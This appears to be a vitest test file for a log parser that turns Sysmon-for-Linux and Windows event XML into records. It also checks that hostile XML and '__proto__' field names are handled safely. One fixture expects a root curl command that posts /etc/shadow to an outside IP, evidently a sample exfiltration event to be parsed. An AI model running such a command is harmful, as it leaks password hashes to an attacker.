import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, test } from 'vitest';
import type { ParsedEvent } from '../event.ts';
import { receivedRecord } from '../testing/received-record.ts';
import { parseRecord } from './parse.ts';
import { maxXmlLength, readEventXml } from './windows-xml.ts';

function parse(raw: string): ParsedEvent {
  const event = parseRecord(receivedRecord('syslog', raw));
  if (event.kind !== 'parsed') throw new Error(event.reason);
  return event;
}

const [started = ''] = readFileSync(join(import.meta.dirname, '../testdata/sysmon.syslog'), 'utf8').split(
  '\n',
);

describe('an event of Sysmon for Linux', () => {
  it('has the fields of Windows, and is of Linux', () => {
    const event = parse(started);
    expect(event.logSource).toEqual({ product: 'linux', category: 'process_creation', service: 'sysmon' });
    expect(event.record).toMatchObject({
      EventID: 1,
      Channel: 'Linux-Sysmon/Operational',
      Computer: 'web1',
      Provider_Name: 'Linux-Sysmon',
      Image: '/usr/bin/curl',
      CommandLine: 'curl -s -X POST --data-binary @/etc/shadow http://203.0.113.9/?a=1&b=<x>',
      ParentImage: '/usr/bin/bash',
      User: 'root',
    });
    expect(event.ocsf).toMatchObject({
      class_uid: 1007,
      activity_id: 1,
      time: Date.UTC(2026, 10, 23, 12, 0, 1, 123),
      device: { hostname: 'web1' },
      process: { name: 'curl', pid: 4711 },
    });
  });

  it('of another channel is of Windows', () => {
    const event = parse(started.replace('Linux-Sysmon/Operational', 'Microsoft-Windows-Sysmon/Operational'));
    expect(event.logSource).toEqual({ product: 'windows', category: 'process_creation', service: 'sysmon' });
  });
});

test.each([
  [
    'named and numbered characters',
    '<Data Name="A">&#65;&#x42;&amp;&lt;&quot;&nope;&#0;&#xD800;</Data>',
    { A: 'AB&<"&nope;&#0;&#xD800;' },
  ],
  ['single quotes', "<Data Name='A B'>x</Data>", { AB: 'x' }],
  ['an empty field', '<Data Name="A"/>', { A: '' }],
  ['a name that is no field', '<Data Name="__proto__">x</Data><Data Name="A">y</Data>', { A: 'y' }],
  ['something else between', '<Data Name="A">x<b/></Data><Data Name="B">y</Data>', { B: 'y' }],
])('%s are read', (_what, data, fields) => {
  const event = parse(
    `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><EventID Qualifiers='1'>7</EventID><Channel>C</Channel></System><EventData>${data}</EventData></Event>`,
  );
  expect(event.record).toMatchObject({ ...fields, EventID: 7, Channel: 'C' });
});

test.each([
  ['no system part', '<Event><EventData/></Event>'],
  ['no end', '<Event><System><EventID>1</EventID>'],
  ['another element', '<Events><System></System></Events> '],
])('text with %s is a line', (_what, text) => {
  expect(parse(text).parser).toBe('syslog');
});

test('hostile text takes time in proportion to its length', () => {
  const at = performance.now();
  for (const filling of ['<Data ', '<Data Name="', '<a b="" ', '&#', "<Data Name='x'>", '<a '])
    readEventXml(
      `<Event><System>${filling.repeat(5_000)}</System><EventData>${filling.repeat(5_000)}</EventData>`.slice(
        0,
        maxXmlLength,
      ),
    );
  expect(performance.now() - at).toBeLessThan(1_000);
});
